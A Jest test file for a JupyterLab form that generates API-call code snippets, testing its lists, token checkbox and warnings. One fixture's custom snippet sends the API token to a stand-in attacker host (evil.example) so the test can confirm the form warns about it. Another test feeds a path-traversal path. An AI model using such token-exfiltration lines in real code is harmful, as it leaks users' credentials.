import { MessageLoop } from '@lumino/messaging';
import type { VirtualElement } from '@lumino/virtualdom';
import { h } from '@lumino/virtualdom';
import { Widget } from '@lumino/widgets';

import { find, findAll, textOf } from '../../ui/__tests__/drawn';
import { trans } from '../../ui/__tests__/trans';
import { SnippetForm } from '../section';
import { OtherToken } from './othertoken';
import { SECRET, snippetOf, SnippetsPage } from './snippetspage';

beforeEach(() => localStorage.clear());

/**
 * The form without a page.
 */
class DrawnForm extends SnippetForm {
  override render() {
    return super.render();
  }
}

let page: SnippetsPage;
let form: DrawnForm;

beforeEach(() => {
  page = new SnippetsPage();
  page.registry.add(snippetOf('curl'));
  page.registry.add(
    snippetOf('elsewhere', {
      title: trans.__('Another client'),
      places: ['anywhere']
    })
  );
  form = new DrawnForm(page.model, { trans, language: 'en' });
});

/**
 * The form as it is drawn.
 */
function drawn(): VirtualElement {
  return h.div(...form.render());
}

/**
 * The labels of the lists.
 */
function lists(): string[] {
  return findAll(drawn(), 'label')
    .filter(({ attrs }) => attrs.htmlFor)
    .map(textOf);
}

/**
 * The list with this label.
 */
function list(label: string): VirtualElement {
  const fields = findAll(drawn(), 'div').filter(
    ({ attrs }) => attrs.className === 'jp-ApiToken-field'
  );
  const [field] = fields.filter(div => textOf(find(div, 'label')) === label);
  const select = find(field, 'select');
  expect(find(field, 'label').attrs.htmlFor).toBe(select.attrs.id);
  return select;
}

/**
 * What there is to choose from in a list, by its values.
 */
function options(label: string): Record<string, string> {
  return Object.fromEntries(
    findAll(list(label), 'option').map(option => [
      option.attrs.value ?? '',
      textOf(option)
    ])
  );
}

/**
 * Change a control as a person does.
 */
function change(control: VirtualElement, state: object): void {
  const event = { target: state } as unknown as Event;
  control.attrs.onchange?.call({} as HTMLElement, event);
}

/**
 * The warnings.
 */
function warnings(): string[] {
  return findAll(drawn(), 'div')
    .filter(({ attrs }) => attrs.className === 'jp-ApiToken-warning')
    .map(textOf);
}

describe('the list “Language”', () => {
  it('has the snippets in their order, by their titles', () => {
    expect(Object.entries(options('Language'))).toEqual([
      ['curl', 'curl'],
      ['elsewhere', 'Another client']
    ]);
  });

  it('has custom snippets in a group of their own, and tells of them', () => {
    const details = () =>
      findAll(drawn(), 'p').filter(
        ({ attrs }) => attrs.className === 'jp-ApiToken-detail'
      );
    page.set({ custom: [{ name: 'b', code: 'x' }] });
    const groups = findAll(list('Language'), 'optgroup');
    expect(groups.map(textOf)).toEqual(['b']);
    expect(Object.keys(options('Language'))).toEqual([
      'curl',
      'elsewhere',
      'b'
    ]);
    expect(details()).toHaveLength(0);
    page.model.language = 'b';
    expect(details()).toHaveLength(1);
  });

  it('chooses the snippet', () => {
    change(list('Language'), { value: 'elsewhere' });
    expect(page.model.snippet?.id).toBe('elsewhere');
  });
});

describe('the list “Where it runs”', () => {
  it('has both places', () => {
    expect(options('Where it runs')).toEqual({
      anywhere: 'On any machine',
      server: 'In this server'
    });
  });

  it('chooses the place', () => {
    change(list('Where it runs'), { value: 'server' });
    expect(page.model.place).toBe('server');
    change(list('Where it runs'), { value: 'anywhere' });
    expect(page.model.place).toBe('anywhere');
  });

  it('is not there with one place', () => {
    page.model.language = 'elsewhere';
    expect(lists()).toEqual(['Language']);
  });
});

describe('“Include the token”', () => {
  it('is there where the code may hold it, and starts off', () => {
    expect(textOf(drawn())).toContain('Include the token');
    expect(find(drawn(), 'input').attrs.type).toBe('checkbox');
    expect(page.model.includeToken).toBe(false);
  });

  it('puts the token in, and takes it out', () => {
    change(find(drawn(), 'input'), { checked: true });
    expect(page.model.includeToken).toBe(true);
    change(find(drawn(), 'input'), { checked: false });
    expect(page.model.includeToken).toBe(false);
  });

  it('gives way to words for code that runs in the server', () => {
    page.model.place = 'server';
    expect(findAll(drawn(), 'input')).toEqual([]);
    expect(textOf(drawn())).toContain('It needs no token in it.');
  });

  it('gives way to a link where the Hub gave the page none', () => {
    page.token.takeAway();
    expect(findAll(drawn(), 'input')).toEqual([]);
    expect(textOf(drawn())).toContain('set JUPYTER_API_TOKEN to it');
    expect(find(drawn(), 'a').attrs.href).toBe('https://hub.example/hub/token');
  });

  it('gives way to words where there is none, and no hub', () => {
    page.token.takeAway();
    page.token.hub = null;
    expect(findAll(drawn(), 'input')).toEqual([]);
    expect(findAll(drawn(), 'a')).toEqual([]);
    expect(textOf(drawn())).toContain('There is no token to put in.');
  });
});

describe('with another token than the page’s', () => {
  it('says which one the code holds, and goes back with a press', () => {
    expect(findAll(drawn(), 'button')).toEqual([]);
    const other = new OtherToken('nightly');
    page.registry.useToken(other);
    other.reveal();
    expect(textOf(drawn())).toContain('“nightly” instead of this page’s');
    expect(JSON.stringify(drawn())).not.toContain(other.value);
    const button = find(drawn(), 'button');
    expect(textOf(button)).toBe('Use this page’s token');
    button.attrs.onclick?.call({} as HTMLElement, {} as MouseEvent);
    expect(page.registry.otherToken).toBeNull();
    expect(textOf(drawn())).not.toContain('instead of this page’s');
    expect(findAll(drawn(), 'button')).toEqual([]);
  });
});

describe('warnings', () => {
  it('are none when all is well', () => {
    expect(warnings()).toEqual([]);
  });

  it('say what is wrong with each snippet of the settings', () => {
    page.set({ custom: [{ name: 'a' }, { name: 'b', code: 'x' }, null] });
    expect(warnings()).toEqual([
      'Own snippet 1, “a”: it has no code.',
      'Own snippet 3: it is not an object with a name and a code.'
    ]);
    expect(options('Language')).toMatchObject({ b: 'b' });
  });

  it('say first that JupyterLab refused the settings', () => {
    page.set({ custom: [null], refused: '/custom/0 must be object' });
    expect(warnings()).toEqual([
      expect.stringMatching(
        /^JupyterLab does not accept the settings of the snippets\. Correct them.*Details for a report Message \/custom\/0 must be object$/
      ),
      expect.stringMatching(/^Own snippet 1:/)
    ]);
  });

  it('say that a snippet failed, and leave the choice of another', () => {
    page.registry.add(
      snippetOf('broken', {
        render: ({ token }) => {
          throw new Error(`No luck with ${token}`);
        }
      })
    );
    page.model.language = 'broken';
    page.model.includeToken = true;
    expect(warnings()).toEqual([
      `This snippet failed. Choose another one, and tell whoever made it. Details for a report Message No luck with ${'•'.repeat(16)}`
    ]);
    expect(options('Language')).toHaveProperty('curl');
  });

  it('name another host than the server’s only where the code has the token', () => {
    page.set({
      custom: [{ name: 'far', code: 'get https://evil.example/?t=${token}' }]
    });
    page.model.language = 'far';
    expect(warnings()).toEqual([]);
    page.model.includeToken = true;
    expect(warnings()).toEqual([expect.stringContaining('evil.example')]);
    page.model.language = 'curl';
    expect(warnings()).toEqual([]);
  });

  it('say why there is no code for a path', () => {
    page.panel.set({ apiPath: '/api/..' });
    expect(warnings()).toEqual([
      expect.stringMatching(/^There is no code.*climbs out/)
    ]);
  });
});

describe('where no code could call the server', () => {
  it.each([
    ['lite', /open a JupyterLab that has a server/],
    ['password', /start the server with a token/]
  ] as const)('there is a sentence and no control: %s', (absence, words) => {
    page.token.takeAway();
    page.panel.learnAbsence(absence);
    page.set({ custom: [null], refused: 'x' });
    expect(textOf(drawn())).toMatch(words);
    for (const tag of ['select', 'input', 'button']) {
      expect(findAll(drawn(), tag)).toEqual([]);
    }
    expect(warnings()).toEqual([]);
  });
});

it('no token is drawn, masked or revealed', () => {
  page.model.includeToken = true;
  page.panel.set({ isTokenRevealed: true });
  expect(JSON.stringify(drawn())).not.toContain(SECRET);
});

it('the controls show what was chosen, whatever was there before', () => {
  page.model.includeToken = true;
  const update = () => MessageLoop.sendMessage(form, Widget.Msg.UpdateRequest);
  update();
  const selects = [...form.node.querySelectorAll('select')];
  const checkbox = form.node.querySelector<HTMLInputElement>(
    'input[type="checkbox"]'
  );
  for (const select of selects) {
    select.selectedIndex = -1;
  }
  update();
  expect(selects.map(({ value }) => value)).toEqual(['curl', 'anywhere']);
  expect(checkbox?.checked).toBe(true);
  page.model.includeToken = false;
  update();
  expect(checkbox?.checked).toBe(false);
});
